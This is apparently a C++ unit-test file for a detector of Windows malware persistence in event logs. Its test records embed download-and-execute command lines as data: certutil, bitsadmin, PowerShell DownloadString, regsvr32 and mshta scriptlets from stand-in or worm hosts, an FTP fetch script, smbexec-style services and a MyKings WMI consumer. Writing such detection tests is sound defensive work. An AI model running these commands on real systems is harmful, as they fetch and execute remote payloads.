// Windows event-log records shaped like the real ones (tests/support/evtx_writer): routine vendor activity stays
// quiet, the worms' services, tasks, WMI subscriptions, accounts and log clearing are found — each through the whole
// set of built-in engines, as `scan` runs them.
#include "detect/heuristics/windows_events.h"

#include <map>
#include <set>

#include <gtest/gtest.h>

#include "detect/heuristics/windows_accounts.h"
#include "detect/heuristics/windows_commands.h"
#include "detect/heuristics/windows_persistence.h"
#include "detect/heuristics/wmi_subscriptions.h"
#include "support/benign_windows_logs.h"
#include "support/evtx_events.h"
#include "support/evtx_writer.h"

namespace msw::detect::heuristics {
namespace {

constexpr uint64_t kTicksPerSecond = 10'000'000;
constexpr uint64_t kT0 = 132223104000000000ull;  // 2020-01-01T00:00:00Z as FILETIME

using Weight = CommandJudgement::Weight;

std::vector<model::Finding> scan(const std::vector<test::EvtxEvent>& log, const std::string& path = "Security.evtx") {
  return test::builtin_findings(test::evtx_events(test::write_evtx(log).bytes, path), path);
}

std::string describe(const std::vector<model::Finding>& found) {
  std::string s;
  for (const auto& f : found)
    s += "\n  [" + std::string(model::to_string(f.severity)) + "] " + f.rule_id + ": " + f.title_en;
  return s;
}

const model::Finding* by_rule(const std::vector<model::Finding>& found, std::string_view rule) {
  for (const auto& f : found)
    if (f.rule_id == rule) return &f;
  return nullptr;
}

test::EvtxEvent record(uint16_t id, std::string channel, std::string provider, uint64_t second,
                       std::vector<std::pair<std::string, std::string>> data) {
  test::EvtxEvent e;
  e.event_id = id;
  e.channel = std::move(channel);
  e.provider = std::move(provider);
  e.filetime = kT0 + second * kTicksPerSecond;
  e.data = std::move(data);
  return e;
}

// ---- the one judgement of a command -----------------------------------------------------------------------------

TEST(WindowsCommands, WhatADropperCommandLooksLike) {
  auto strong = [](std::string_view c) { return judge_windows_command(c).weight == Weight::Strong; };
  EXPECT_EQ(judge_windows_command("C:\\Windows\\inf\\aspnet\\lsmose.exe").why, "runs from C:\\Windows\\inf");
  EXPECT_TRUE(strong("%SystemRoot%\\debug\\lsmosee.exe"));
  EXPECT_TRUE(strong("\\SystemRoot\\Help\\x.exe"));
  EXPECT_TRUE(strong("C:\\Users\\Public\\a.exe"));
  EXPECT_EQ(judge_windows_command("powershell -nop -w hidden -enc SQBFAFgA").why, "PowerShell with an encoded command");
  // -e/-enc/-EncodedCommand/-ec however they are spaced, with / or a Unicode dash.
  for (auto c : {"powershell.exe -e SQBFAFgA", "powershell.exe\t-EncodedCommand   SQBFAFgA", "POWERSHELL /enc SQBFAFgA",
                 "powershell -NoP -NonI -W Hidden -ec SQBFAFgA",
                 "powershell \xE2\x80\x93"
                 "enc SQBFAFgA",
                 "pwsh -EncodedC SQBFAFgA"})
    EXPECT_EQ(judge_windows_command(c).why, "PowerShell with an encoded command") << c;
  EXPECT_EQ(judge_windows_command("regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll").why,
            "regsvr32 running a remote scriptlet (Squiblydoo)");
  EXPECT_TRUE(strong("cmd /c echo open ftp.ftp1202.site>s&echo test>>s&echo get a.exe>>s&ftp -s:s"));
  EXPECT_TRUE(strong("mshta http://js.mykings.top:280/v.sct"));
  EXPECT_TRUE(strong("certutil -urlcache -split -f http://x.example/a.exe a.exe"));
  EXPECT_TRUE(strong("bitsadmin /transfer j http://x.example/a.exe C:\\a.exe"));
  EXPECT_TRUE(strong("powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')\""));
  EXPECT_TRUE(strong("powershell -c \"iwr http://x.example/a -o a.ps1\""));
  EXPECT_TRUE(strong("msiexec /q /i http://x.example/p.msi"));
  EXPECT_TRUE(strong("C:\\Windows\\Temp\\svchost.exe"));  // masquerading beats the weak folder
  EXPECT_EQ(judge_windows_command("C:\\Windows\\Temp\\svchost.exe").why,
            "a Windows program name (svchost.exe) outside System32; runs from C:\\Windows\\Temp");
  // Weak: temporary folders and ProgramData.
  EXPECT_EQ(judge_windows_command("C:\\Windows\\Temp\\setup.exe").weight, Weight::Weak);
  EXPECT_EQ(judge_windows_command("\"C:\\ProgramData\\Vendor\\agent.exe\"").weight, Weight::Weak);
  EXPECT_EQ(judge_windows_command("C:\\Users\\bob\\AppData\\Local\\Temp\\x\\y.exe").severity(),
            model::Severity::Medium);
  // Ordinary places, Microsoft's own ProgramData folder, AppData programs, words that only contain "iex".
  for (auto ok : {"%SystemRoot%\\System32\\svchost.exe -k netsvcs", "\"C:\\Program Files\\App\\app.exe\" /min",
                  "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe\"",
                  "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{974FB328-EA38-4C43-B298-"
                  "8157FD612F07}\\MpKslfbbd78dc.sys",
                  "C:\\Windows\\system32\\lsass.exe", "svchost.exe", "D:\\scripts\\backup.bat",
                  "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler",
                  "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background",
                  "powershell -File D:\\ops\\complex-report.ps1 -ExecutionPolicy Bypass",
                  "\\SystemRoot\\System32\\drivers\\WUDFRd.sys"})
    EXPECT_FALSE(judge_windows_command(ok).suspicious()) << ok << ": " << judge_windows_command(ok).why;
}

// ---- 1. tasks: the actions of the task XML, not the XML --------------------------------------------------------

std::string task_xml(const std::string& command, const std::string& arguments) {
  return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n"
         "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
         "  <RegistrationInfo><Author>SYSTEM</Author><URI>\\X</URI></RegistrationInfo>\n"
         "  <Triggers><CalendarTrigger><StartBoundary>2020-01-01T02:00:00</StartBoundary><ScheduleByDay><DaysInterval>1"
         "</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>\n"
         "  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel>"
         "</Principal></Principals>\n"
         "  <Actions Context=\"Author\"><Exec><Command>" +
         command + "</Command>" + (arguments.empty() ? "" : "<Arguments>" + arguments + "</Arguments>") +
         "</Exec></Actions>\n</Task>";
}

test::EvtxEvent task_created(uint64_t second, const std::string& name, const std::string& xml) {
  return record(4698, "Security", "Microsoft-Windows-Security-Auditing", second,
                {{"SubjectUserSid", "S-1-5-18"},
                 {"SubjectUserName", "WIN-SERVER$"},
                 {"SubjectDomainName", "WORKGROUP"},
                 {"SubjectLogonId", "0x3e7"},
                 {"TaskName", name},
                 {"TaskContent", xml}});
}

TEST(WindowsEvents, RoutineTasksAreQuiet) {
  const auto found = scan({task_created(10, "\\GoogleUpdateTaskMachineCore",
                                        task_xml("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/c")),
                           task_created(20, "\\GoogleUpdateTaskMachineUA",
                                        task_xml("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
                                                 "/ua /installsource scheduler")),
                           task_created(30, "\\Nightly backup", task_xml("D:\\scripts\\backup.bat", ""))});
  EXPECT_TRUE(found.empty()) << describe(found);
}

TEST(WindowsEvents, TasksThatDownloadOrRunEncodedCommandsAreHigh) {
  const auto found = scan(
      {task_created(10, "\\Mysa1",
                    task_xml("cmd.exe", "/c echo open ftp.ftp1202.site&gt;s&amp;echo test&gt;&gt;s&amp;ftp -s:s")),
       task_created(20, "\\Microsoft\\Windows\\Update",
                    task_xml("powershell.exe", "-NoP -W  Hidden   -e  SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"))});
  size_t tasks = 0;
  for (const auto& f : found) {
    if (f.rule_id != kTaskSuspiciousRule) continue;
    ++tasks;
    EXPECT_EQ(f.severity, model::Severity::High) << f.title_en;
    EXPECT_EQ(f.actions.front().kind, model::ActionKind::RemoveScheduledTask);
  }
  EXPECT_EQ(tasks, 2u) << describe(found);
  const auto* mysa = by_rule(found, kTaskSuspiciousRule);
  ASSERT_TRUE(mysa);
  EXPECT_NE(mysa->title_en.find("\\Mysa1"), std::string::npos);
  EXPECT_NE(mysa->title_en.find("ftp -s:s"), std::string::npos);  // the decoded action, not the XML
}

TEST(WindowsEvents, TaskSchedulerRunsFromDropFolders) {
  const auto found =
      scan({record(200, "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 5,
                   {{"TaskName", "\\ok"}, {"TaskInstanceId", "{1}"}, {"ActionName", "C:\\Windows\\debug\\ok.exe"}}),
            record(200, "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 6,
                   {{"TaskName", "\\ok"}, {"TaskInstanceId", "{2}"}, {"ActionName", "C:\\Windows\\debug\\ok.exe"}})},
           "Microsoft-Windows-TaskScheduler%4Operational.evtx");
  ASSERT_EQ(std::count_if(found.begin(), found.end(), [](const auto& f) { return f.rule_id == kTaskSuspiciousRule; }),
            1)
      << describe(found);
  EXPECT_EQ(by_rule(found, kTaskSuspiciousRule)->severity, model::Severity::High);
}

// ---- 2. services -------------------------------------------------------------------------------------------------

test::EvtxEvent service_installed(uint64_t second, const std::string& name, const std::string& image,
                                  const std::string& type = "user mode service",
                                  const std::string& account = "LocalSystem") {
  return record(7045, "System", "Service Control Manager", second,
                {{"ServiceName", name},
                 {"ImagePath", image},
                 {"ServiceType", type},
                 {"StartType", "demand start"},
                 {"AccountName", account}});
}

TEST(WindowsEvents, RoutineVendorServicesAreQuiet) {
  const auto found = scan(
      {service_installed(1, "MpKslfbbd78dc",
                         "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{974FB328-EA38-4C43-B298-"
                         "8157FD612F07}\\MpKslfbbd78dc.sys",
                         "kernel mode driver", ""),
       service_installed(2, "Google Update Service (gupdate)",
                         "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"),
       service_installed(3, "VMware Tools", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\""),
       service_installed(4, "UMDF Reflector", "\\SystemRoot\\System32\\drivers\\WUDFRd.sys", "kernel mode driver", "")},
      "System.evtx");
  EXPECT_TRUE(found.empty()) << describe(found);
}

TEST(WindowsEvents, ServicesFromDropFoldersAreFoundWhateverTheirName) {
  std::vector<test::EvtxEvent> log = {
      service_installed(1, "Ias", "C:\\Windows\\Fonts\\csrss.exe"),
      service_installed(2, "Updater", "C:\\Windows\\Temp\\upd.exe"),
      service_installed(3, "xWinWpdSrv", "cmd /c regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll"),
      // impacket's smbexec and PsExec-style tools: a shell as the service; a bare program name.
      service_installed(5, "BTOBTO",
                        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
      service_installed(6, "remotesvc", "calc.exe")};
  log.push_back(record(4697, "Security", "Microsoft-Windows-Security-Auditing", 4,
                       {{"SubjectUserName", "bob"},
                        {"SubjectDomainName", "CORP"},
                        {"ServiceName", "Ias2"},
                        {"ServiceFileName", "C:\\Windows\\debug\\lsmosee.exe"},
                        {"ServiceType", "0x10"},
                        {"ServiceStartType", "2"},
                        {"ServiceAccount", "LocalSystem"}}));
  const auto found = scan(log, "System.evtx");
  std::map<std::string, model::Severity> services;
  for (const auto& f : found)
    if (f.rule_id == kServiceInstalledRule) services[f.observables.front().value] = f.severity;
  EXPECT_EQ(services, (std::map<std::string, model::Severity>{{"BTOBTO", model::Severity::High},
                                                              {"Ias", model::Severity::High},
                                                              {"Ias2", model::Severity::High},
                                                              {"Updater", model::Severity::Medium},
                                                              {"remotesvc", model::Severity::Medium},
                                                              {"xWinWpdSrv", model::Severity::High}}))
      << describe(found);
  const auto* ias = by_rule(found, kServiceInstalledRule);
  ASSERT_TRUE(ias);
  EXPECT_EQ(ias->actions.back().kind, model::ActionKind::QuarantineFile);
  EXPECT_EQ(ias->actions.back().target, "C:\\Windows\\Fonts\\csrss.exe");
}

// ---- 10. one verdict wherever a command is registered ------------------------------------------------------

TEST(WindowsEvents, TheSameCommandGetsTheSameVerdictFromEverySource) {
  for (const std::string command : {"C:\\Windows\\debug\\lsmosee.exe", "cmd /c echo open ftp.example>s&ftp -s:s",
                                    "regsvr32 /u /s /i:http://js.example:280/v.sct scrobj.dll",
                                    "C:\\Windows\\Temp\\setup.exe", "C:\\Program Files\\App\\app.exe"}) {
    std::vector<model::Severity> seen;
    auto severity_of = [&](const std::vector<model::Finding>& found) {
      for (const auto& f : found)
        if (f.rule_id == kServiceInstalledRule || f.rule_id == kTaskSuspiciousRule ||
            f.rule_id == kRegistryAutostartRule)
          return f.severity;
      return model::Severity::Informational;
    };
    seen.push_back(severity_of(scan({service_installed(1, "svc", command)}, "System.evtx")));
    seen.push_back(severity_of(scan({task_created(
        1, "\\t",
        task_xml(command.substr(0, command.find(' ')),
                 command.find(' ') == std::string::npos ? "" : command.substr(command.find(' ') + 1)))})));
    model::Event run;
    run.category = "registry_set";
    run.product = "windows";
    run.set(model::Field::TargetObject, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x");
    run.set(model::Field::Details, command);
    seen.push_back(severity_of(test::builtin_findings({run}, "SOFTWARE")));
    model::Event task;
    task.category = "scheduled_task";
    task.product = "windows";
    task.set(model::Field::TaskName, "\\t");
    task.set(model::Field::CommandLine, command);
    seen.push_back(severity_of(test::builtin_findings({task}, "C/Windows/System32/Tasks/t")));
    const model::Severity want = judge_windows_command(command).severity();
    for (size_t k = 0; k < seen.size(); ++k)
      EXPECT_EQ(seen[k], want) << command << " from source " << k << " (service, 4698, Run key, task file)";
  }
}

// ---- 3. accounts: Windows Setup's first user is not an attacker ------------------------------------------------

test::EvtxEvent security(uint16_t id, uint64_t second, std::vector<std::pair<std::string, std::string>> data) {
  return record(id, "Security", "Microsoft-Windows-Security-Auditing", second, std::move(data));
}

std::vector<test::EvtxEvent> create_admin(uint64_t second, const std::string& name, const std::string& sid,
                                          const std::string& by_sid, const std::string& by_name) {
  return {security(4720, second,
                   {{"TargetUserName", name},
                    {"TargetDomainName", "WIN-SERVER"},
                    {"TargetSid", sid},
                    {"SubjectUserSid", by_sid},
                    {"SubjectUserName", by_name},
                    {"SubjectDomainName", "WORKGROUP"}}),
          security(4732, second + 1,
                   {{"MemberName", "-"},
                    {"MemberSid", sid},
                    {"TargetUserName", "Administrators"},
                    {"TargetDomainName", "Builtin"},
                    {"TargetSid", "S-1-5-32-544"},
                    {"SubjectUserSid", by_sid},
                    {"SubjectUserName", by_name}})};
}

TEST(WindowsEvents, WindowsSetupsFirstAccountIsNoFinding) {
  // A clean installation: the log starts, Setup creates the built-in accounts and the first user (RID 1000) as the
  // machine account within minutes, and adds it to Administrators.
  std::vector<test::EvtxEvent> log = {security(4608, 0, {})};
  for (auto& e : create_admin(30, "DefaultAccount", "S-1-5-21-1-2-3-503", "S-1-5-18", "WIN-SERVER$")) log.push_back(e);
  for (auto& e : create_admin(400, "John", "S-1-5-21-1-2-3-1000", "S-1-5-18", "WIN-SERVER$")) log.push_back(e);
  const auto found = scan(log);
  EXPECT_TRUE(found.empty()) << describe(found);
}

TEST(WindowsEvents, AnAccountMadeAdministratorLaterIsHigh) {
  std::vector<test::EvtxEvent> log = {security(4608, 0, {})};
  for (auto& e : create_admin(400, "John", "S-1-5-21-1-2-3-1000", "S-1-5-18", "WIN-SERVER$")) log.push_back(e);
  // MyKings, running as SYSTEM after EternalBlue, weeks later; and an operator's own account.
  for (auto& e : create_admin(30 * 86400, "admin$", "S-1-5-21-1-2-3-1003", "S-1-5-18", "WIN-SERVER$")) log.push_back(e);
  for (auto& e : create_admin(31 * 86400, "sysadm", "S-1-5-21-1-2-3-1004", "S-1-5-21-1-2-3-500", "Administrator"))
    log.push_back(e);
  const auto found = scan(log);
  std::set<std::string> accounts;
  for (const auto& f : found) {
    if (f.rule_id != kAccountCreatedAdminRule) continue;
    EXPECT_EQ(f.severity, model::Severity::High);
    accounts.insert(f.observables.front().value);
  }
  EXPECT_EQ(accounts, (std::set<std::string>{"admin$", "sysadm"})) << describe(found);
}

TEST(WindowsEvents, TheFirstAccountCreatedBySystemLongAfterInstallationIsHigh) {
  // A server installed with the built-in Administrator only: the worm's account is the first to get RID 1000.
  std::vector<test::EvtxEvent> log = {security(4608, 0, {})};
  for (auto& e : create_admin(90 * 86400, "admin$", "S-1-5-21-1-2-3-1000", "S-1-5-18", "WIN-SERVER$")) log.push_back(e);
  const auto found = scan(log);
  EXPECT_TRUE(by_rule(found, kAccountCreatedAdminRule)) << describe(found);
}

// ---- 4. WMI: Windows' own consumers, and the ones the knowledge base knows -------------------------------------

test::EvtxEvent wmi_5861(uint64_t second, const std::string& filter, const std::string& consumer,
                         const std::string& cause) {
  test::EvtxEvent e = record(
      5861, "Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-WMI-Activity", second,
      {{"Namespace", "//./root/subscription"}, {"ESS", filter}, {"CONSUMER", consumer}, {"PossibleCause", cause}});
  e.user_data = "Operation_ESStoConsumerBinding";
  return e;
}

TEST(WindowsEvents, WindowsOwnWmiSubscriptionsAreQuiet) {
  const auto found = scan(
      {wmi_5861(
           1, "SCM Event Log Filter", "NTEventLogEventConsumer=\"SCM Event Log Consumer\"",
           "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, "
           "32, 2, 0, 0};\n"
           "\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = \"select * from "
           "MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of "
           "NTEventLogEventConsumer\n"
           "{\n\tCategory = 0;\n\tEventID = 0;\n\tEventType = 1;\n\tName = \"SCM Event Log Consumer\";\n\tSourceName = "
           "\"Service Control Manager\";\n};\n"),
       wmi_5861(2, "BVTFilter", "CommandLineEventConsumer=\"BVTConsumer\"",
                "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"cscript "
                "KernCap.vbs\";\n"
                "\tName = \"BVTConsumer\";\n\tWorkingDirectory = \"C:\\\\tools\\\\kernrate\";\n};\n")},
      "Microsoft-Windows-WMI-Activity%4Operational.evtx");
  EXPECT_TRUE(found.empty()) << describe(found);
}

TEST(WindowsEvents, KnownWmiSubscriptionsNameTheirFamily) {
  const auto found = scan(
      {wmi_5861(
          1, "fuckyoumm3", "CommandLineEventConsumer=\"fuckyoumm4\"",
          "Binding EventFilter: \ninstance of __EventFilter\n{\n\tName = \"fuckyoumm3\";\n\tQuery = \"select * from "
          "__timerevent where timerid=\\\"fuckyoumm2_itimer\\\"\";\n};\nPerm. Consumer: \ninstance of "
          "CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"cmd /c powershell.exe -nop -enc "
          "\\\"JABlAG4AdgA\\\"\";\n"
          "\tName = \"fuckyoumm4\";\n};\n")},
      "Microsoft-Windows-WMI-Activity%4Operational.evtx");
  const auto* wmi = by_rule(found, kWmiSubscriptionRule);
  ASSERT_TRUE(wmi) << describe(found);
  EXPECT_EQ(wmi->severity, model::Severity::High);
  EXPECT_EQ(wmi->family, "mykings");
  EXPECT_NE(wmi->title_en.find("fuckyoumm3 -> fuckyoumm4"), std::string::npos) << wmi->title_en;
  EXPECT_NE(wmi->description_en.find("cmd /c powershell.exe -nop -enc \"JABlAG4AdgA\""), std::string::npos)
      << wmi->description_en;
  EXPECT_EQ(wmi->actions.front().kind, model::ActionKind::RemoveWmiSubscription);
  EXPECT_EQ(wmi->actions.front().target,
            "CommandLineEventConsumer.Name=\"fuckyoumm4\" __EventFilter.Name=\"fuckyoumm3\"");
}

TEST(WindowsEvents, SysmonWmiEventsAreJoinedIntoOneSubscription) {
  const std::string ch = "Microsoft-Windows-Sysmon/Operational", pv = "Microsoft-Windows-Sysmon";
  const auto found = scan(
      {record(19, ch, pv, 1,
              {{"EventType", "WmiFilterEvent"},
               {"Operation", "Created"},
               {"Name", " \"BotFilter82\""},
               {"Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 10\""}}),
       record(20, ch, pv, 2,
              {{"EventType", "WmiConsumerEvent"},
               {"Operation", "Created"},
               {"Name", " \"BotConsumer23\""},
               {"Type", "Command Line"},
               {"Destination", " \"c:\\\\Windows\\\\debug\\\\svhost.exe\""}}),
       record(
           21, ch, pv, 3,
           {{"EventType", "WmiBindingEvent"},
            {"Operation", "Created"},
            {"Consumer", " \"\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\\"BotConsumer23\\\"\""},
            {"Filter", " \"\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\\"BotFilter82\\\"\""}}),
       record(21, ch, pv, 9,
              {{"EventType", "WmiBindingEvent"},
               {"Operation", "Deleted"},
               {"Consumer", " \"CommandLineEventConsumer.Name=\\\"BotConsumer23\\\"\""},
               {"Filter", " \"__EventFilter.Name=\\\"BotFilter82\\\"\""}})},
      "Microsoft-Windows-Sysmon%4Operational.evtx");
  ASSERT_EQ(std::count_if(found.begin(), found.end(), [](const auto& f) { return f.rule_id == kWmiSubscriptionRule; }),
            1)
      << describe(found);
  const auto* wmi = by_rule(found, kWmiSubscriptionRule);
  EXPECT_EQ(wmi->severity, model::Severity::High);
  EXPECT_NE(wmi->title_en.find("BotFilter82 -> BotConsumer23: c:\\Windows\\debug\\svhost.exe"), std::string::npos)
      << wmi->title_en;
  EXPECT_EQ(wmi->evidence.size(), 3u);
  EXPECT_EQ(wmi->actions.back().target, "c:\\Windows\\debug\\svhost.exe");
}

TEST(WindowsEvents, SysmonSeesAnAccountCreatedAndMadeAdministrator) {
  const std::string ch = "Microsoft-Windows-Sysmon/Operational", pv = "Microsoft-Windows-Sysmon";
  const std::string names = "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\";
  auto reg = [&](uint16_t id, uint64_t s, const std::string& type, const std::string& target) {
    return record(id, ch, pv, s,
                  {{"EventType", type}, {"Image", "C:\\windows\\system32\\lsass.exe"}, {"TargetObject", target}});
  };
  const auto found =
      scan({reg(12, 100, "CreateKey", names + "backup1"), reg(13, 100, "SetValue", names + "backup1\\(Default)"),
            reg(12, 700, "CreateKey", names + "sqlsvc"),
            reg(13, 900, "SetValue", "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000220\\C")},
           "Microsoft-Windows-Sysmon%4Operational.evtx");
  std::vector<std::string> accounts;
  for (const auto& f : found)
    if (f.rule_id == kAccountCreatedAdminRule) accounts.push_back(f.observables.front().value);
  EXPECT_EQ(accounts, std::vector<std::string>{"sqlsvc"}) << describe(found);
}

TEST(WindowsEvents, BitsTransfersOutsideTheVendorsUpdates) {
  auto bits = [](uint64_t s, const std::string& job, const std::string& url) {
    return record(59, "Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client", s,
                  {{"transferId", "{2}"}, {"name", job}, {"Id", "{1}"}, {"url", url}, {"peer", ""}});
  };
  const auto found =
      scan({bits(1, "Windows Update", "http://download.windowsupdate.com/c/msdownload/update/x.cab"),
            bits(2, "update", "http://45.9.148.35/sp.exe"), bits(3, "update", "http://45.9.148.35/sp.exe"),
            bits(4, "backdoor", "C:\\Windows\\system32\\cmd.exe"),
            bits(5, "Download LockScreen Image", "https://a.example.net/wall.jpg")},
           "Microsoft-Windows-Bits-Client%4Operational.evtx");
  std::map<std::string, model::Severity> jobs;
  for (const auto& f : found)
    if (f.rule_id == kBitsTransferRule) jobs[f.title_en.substr(0, f.title_en.find(':'))] = f.severity;
  EXPECT_EQ(jobs, (std::map<std::string, model::Severity>{{"BITS job Download LockScreen Image", model::Severity::Low},
                                                          {"BITS job backdoor", model::Severity::Medium},
                                                          {"BITS job update", model::Severity::Medium}}))
      << describe(found);
}

TEST(WindowsEvents, AdminShareWritesAndRemoteAccess) {
  auto share = [](uint64_t s, const std::string& name, const std::string& access, const std::string& target) {
    return record(5145, "Security", "Microsoft-Windows-Security-Auditing", s,
                  {{"SubjectUserName", "Administrator"},
                   {"SubjectDomainName", "EXAMPLE"},
                   {"IpAddress", "10.0.2.17"},
                   {"ShareName", name},
                   {"RelativeTargetName", target},
                   {"AccessList", access}});
  };
  auto found = scan({share(1, "\\\\*\\C$", "%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t", "Users"),  // reading only
                     share(2, "\\\\*\\ADMIN$", "%%1538\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n", "PSEXESVC.exe"),
                     share(3, "\\\\*\\ADMIN$", "%%4417", "PSEXESVC.exe"), share(4, "\\\\*\\IPC$", "%%4417", "svcctl")});
  std::vector<std::string> titles;
  for (const auto& f : found)
    if (f.rule_id == kAdminShareWriteRule) titles.push_back(f.title_en);
  EXPECT_EQ(titles, std::vector<std::string>{"Files written to \\\\*\\ADMIN$ from 10.0.2.17 by EXAMPLE\\Administrator: "
                                             "PSEXESVC.exe"})
      << describe(found);

  const std::string rdp = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational";
  found = scan({record(131, rdp, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 1,
                       {{"ConnType", "TCP"}, {"ClientIP", "10.0.2.16:52202"}}),
                record(131, rdp, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", 2,
                       {{"ConnType", "TCP"}, {"ClientIP", "10.0.2.16:52210"}})},
               "RdpCoreTS.evtx");
  ASSERT_EQ(found.size(), 1u) << describe(found);
  EXPECT_EQ(found[0].severity, model::Severity::Informational);
  EXPECT_EQ(found[0].title_en, "RDP connection from 10.0.2.16");
}

// ---- 11. logs cleared and the Event Log service --------------------------------------------------------------

TEST(WindowsEvents, ClearedLogsAreNamed) {
  test::EvtxEvent system_clear = record(104, "System", "Microsoft-Windows-Eventlog", 1,
                                        {{"SubjectUserName", "user01"},
                                         {"SubjectDomainName", "EXAMPLE"},
                                         {"Channel", "Windows PowerShell"},
                                         {"BackupPath", ""}});
  system_clear.user_data = "LogFileCleared";
  test::EvtxEvent security_clear = record(1102, "Security", "Microsoft-Windows-Eventlog", 2,
                                          {{"SubjectUserSid", "S-1-5-21-1-2-3-1106"},
                                           {"SubjectUserName", "user01"},
                                           {"SubjectDomainName", "EXAMPLE"},
                                           {"SubjectLogonId", "0x17dad"}});
  security_clear.user_data = "LogFileCleared";
  auto events = test::evtx_events(test::write_evtx({system_clear}).bytes, "System.evtx");
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].service, "system");  // the log the record is in, not the one it names
  EXPECT_EQ(events[0].value(model::Field::Channel), "Windows PowerShell");
  std::set<std::string> titles;
  for (const auto& f : test::builtin_findings(events, "System.evtx")) titles.insert(f.title_en);
  for (const auto& f : scan({security_clear})) titles.insert(f.title_en);
  EXPECT_EQ(titles, (std::set<std::string>{"The Windows PowerShell log was cleared by EXAMPLE\\user01",
                                           "The Security log was cleared by EXAMPLE\\user01"}));
}

// The same log cleared twice by the same account is one finding that says so; another account's clear is its own.
TEST(WindowsEvents, RepeatedClearsOfOneLogAreCounted) {
  auto clear = [](uint64_t seq, std::string user) {
    test::EvtxEvent e = record(1102, "Security", "Microsoft-Windows-Eventlog", seq,
                               {{"SubjectUserName", std::move(user)}, {"SubjectDomainName", "EXAMPLE"}});
    e.user_data = "LogFileCleared";
    return e;
  };
  const auto found = scan({clear(1, "user01"), clear(2, "user01"), clear(3, "admin")});
  std::map<std::string, size_t> evidence_by_title;
  for (const auto& f : found) evidence_by_title[f.title_en] = f.evidence.size();
  EXPECT_EQ(evidence_by_title,
            (std::map<std::string, size_t>{{"The Security log was cleared 2 times by EXAMPLE\\user01", 2},
                                           {"The Security log was cleared by EXAMPLE\\admin", 1}}))
      << describe(found);
}

TEST(WindowsEvents, TheEventLogServiceStoppedOrDisabled) {
  auto scm = [](uint16_t id, uint64_t s, std::vector<std::pair<std::string, std::string>> d) {
    return record(id, "System", "Service Control Manager", s, std::move(d));
  };
  // "EventLog/1" and "EventLog/4" in UTF-16LE hex: stopped, running.
  const std::string stopped = "4500760065006E0074004C006F0067002F0031000000";
  const std::string running = "4500760065006E0074004C006F0067002F0034000000";
  const auto found = scan(
      {scm(7036, 1, {{"param1", "Windows-Ereignisprotokoll"}, {"param2", "Beendet"}, {"Binary", stopped}}),
       scm(7036, 2, {{"param1", "Windows Event Log"}, {"param2", "running"}, {"Binary", running}}),
       scm(7040, 3,
           {{"param1", "Windows Event Log"}, {"param2", "auto start"}, {"param3", "disabled"}, {"param4", "EventLog"}}),
       scm(7036, 4,
           {{"param1", "Print Spooler"},
            {"param2", "stopped"},
            {"Binary", "530070006F006F006C00650072002F0031000000"}}),
       // Windows 7 logs the stop at every shutdown: the next boot follows within minutes.
       scm(7036, 5000, {{"param1", "Windows Event Log"}, {"param2", "stopped"}, {"Binary", stopped}}),
       record(12, "System", "Microsoft-Windows-Kernel-General", 5040, {{"StartTime", "x"}}),
       scm(7036, 5041, {{"param1", "Windows Event Log"}, {"param2", "running"}, {"Binary", running}})},
      "System.evtx");
  std::vector<std::string> titles;
  for (const auto& f : found)
    if (f.rule_id == kEventLogServiceRule) titles.push_back(f.title_en);
  EXPECT_EQ(titles, (std::vector<std::string>{"The Windows Event Log service was stopped",
                                              "The Windows Event Log service was set to disabled"}))
      << describe(found);
}

}  // namespace
}  // namespace msw::detect::heuristics

namespace msw::detect::heuristics {
namespace {

// The false-alarm side: every benign scenario makes no finding at all through the built-in engines, so `scan`
// says "No actionable findings" on them (tests/cli checks the verdict line).
TEST(BenignWindowsLogs, OrdinaryHostsMakeNoFinding) {
  for (const auto& log : test::benign_windows_logs()) {
    const auto events = test::evtx_events(test::write_evtx(log.events).bytes, log.name);
